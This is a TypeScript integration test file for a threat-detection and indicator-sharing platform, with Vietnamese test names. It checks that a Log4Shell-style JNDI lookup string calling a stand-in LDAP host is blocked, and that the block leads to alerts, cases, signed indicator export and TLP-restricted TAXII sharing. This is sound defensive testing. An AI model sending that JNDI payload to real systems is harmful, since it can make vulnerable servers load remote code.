import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test } from 'node:test'
import { listen as citizenReports } from '../../examples/marketplace/journey/listening.ts'
import { until } from '../../examples/marketplace/journey/travels.ts'
import { taxiiClient } from '../../src/exchange/index.ts'
import { startAlone } from './alone.ts'

const IN_A_WEEK = (): string => new Date(Date.now() + 7 * 86_400_000).toISOString()
const JNDI = encodeURIComponent('${jndi:ldap://cap-nhat.bad-host.vn:1389/a}')
type Alert = { id: string; observables: { value: string; role: string }[] }
const webhook = async () => {
  const bodies: string[] = []
  const server = createServer(async (req, res) => {
    let text = ''
    for await (const part of req) text += String(part)
    bodies.push(text)
    res.end('ok')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { bodies, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`, server }
}

test('nền tảng một mình: từ chối, báo động cho người của mình, lập vụ việc, đưa chỉ dấu ra tệp có chữ ký', async () => {
  const app = await webhook()
  const hook = await webhook()
  await using node = await startAlone('platform', ['--upstream', new URL(app.url).origin])
  const admin = await node.staff(['administrator'])
  const analyst = await node.staff(['analyst', 'auditor'])
  await admin.ask('POST', '/api/detection/recipients', { kind: 'webhook', target: hook.url, from: 'high' })
  await assert.rejects(
    admin.ask('POST', '/api/detection/recipients', {
      kind: 'email',
      target: 'a@example.vn',
      from: 'low',
      language: 'vi',
    }),
    /people\/no-mail/,
    'without a mail server it says so',
  )
  const refused = await fetch(`${node.gateway}/?q=${JNDI}`)
  assert.equal(refused.status, 403)
  assert.equal(app.bodies.length, 0)
  const alert = await until(
    async () => (await analyst.ask<{ items: Alert[] }>('GET', '/api/detection/alerts')).items[0],
  )
  assert.ok(alert?.observables.some((o) => o.value === 'cap-nhat.bad-host.vn' && o.role === 'callback'))
  const told = await until(async () => hook.bodies[0])
  assert.match(told ?? '', /cap-nhat\.bad-host\.vn/)
  const { id } = await analyst.ask<{ id: string }>('POST', '/api/cases', { alert: alert?.id })
  const proposal = { value: 'cap-nhat.bad-host.vn', kind: 'domain', role: 'c2', confidence: 90, caseId: id }
  const indicator = await analyst.ask<{ id: string }>('POST', '/api/exchange/indicators', {
    ...proposal,
    tlp: 'green',
    validUntil: IN_A_WEEK(),
  })
  const file = await analyst.ask<{ bundle: string; signature: string; vkey: string; objects: number }>(
    'POST',
    '/api/exchange/export',
    { indicators: [indicator.id] },
  )
  assert.ok(file.objects >= 1 && file.bundle.includes('cap-nhat.bad-host.vn'))

  await using neighbour = await startAlone('authority')
  const officer = await neighbour.staff(['analyst', 'auditor'])
  const { bundle, signature, vkey } = file
  const taken = await officer.ask<{ accepted: number }>('POST', '/api/exchange/import', { bundle, signature, vkey })
  assert.ok(taken.accepted >= 1)
  await assert.rejects(
    officer.ask('POST', '/api/exchange/import', { bundle: bundle.replace('bad-host', 'good-host'), signature, vkey }),
    /exchange\//,
    'a changed file is refused',
  )
  app.server.close()
  hook.server.close()
})

test('trung tâm một mình: nghe người dân, phục vụ TAXII cho bất kỳ máy khách nào', async () => {
  await using node = await startAlone('authority')
  const officer = await node.staff(['inspector', 'analyst', 'auditor'])
  const admin = await node.staff(['administrator'])
  const world = { authority: { internal: node.internal, public: node.public } } as Parameters<typeof citizenReports>[0]
  await citizenReports(
    world,
    { get: (path) => officer.ask('GET', path), send: (method, path, body) => officer.ask(method, path, body ?? {}) },
    { step: () => {}, check: (vi, _, ok, found) => assert.ok(ok, `${vi} ${found}`) },
  )
  const { user, secret } = await admin.ask<{ user: string; secret: string }>('POST', '/api/exchange/peers', {
    name: 'Nhà mạng láng giềng',
    role: 'telecom',
    maxTlp: 'green',
  })
  const share = async (value: string, tlp: string): Promise<void> => {
    const made = await officer.ask<{ id: string }>('POST', '/api/exchange/indicators', {
      value,
      kind: 'domain',
      role: 'c2',
      confidence: 80,
      tlp,
      validUntil: IN_A_WEEK(),
    })
    await officer.ask('POST', `/api/exchange/indicators/${made.id}/share`, {})
  }
  await share('xanh.bad-host.vn', 'green')
  await share('do.bad-host.vn', 'red')
  const client = taxiiClient({ root: `${node.public}/taxii2/root/`, collection: 'out', user, secret })
  const page = await client.page({ addedAfter: null, next: null, last: null })
  const text = JSON.stringify(page.objects)
  assert.ok(text.includes('xanh.bad-host.vn') && !text.includes('do.bad-host.vn'), 'TLP:RED never leaves')
  const { items } = await officer.ask<{ items: { reason: string }[] }>('GET', '/api/exchange/refusals')
  assert.ok(items.some(({ reason }) => reason === 'tlp-red'))
})
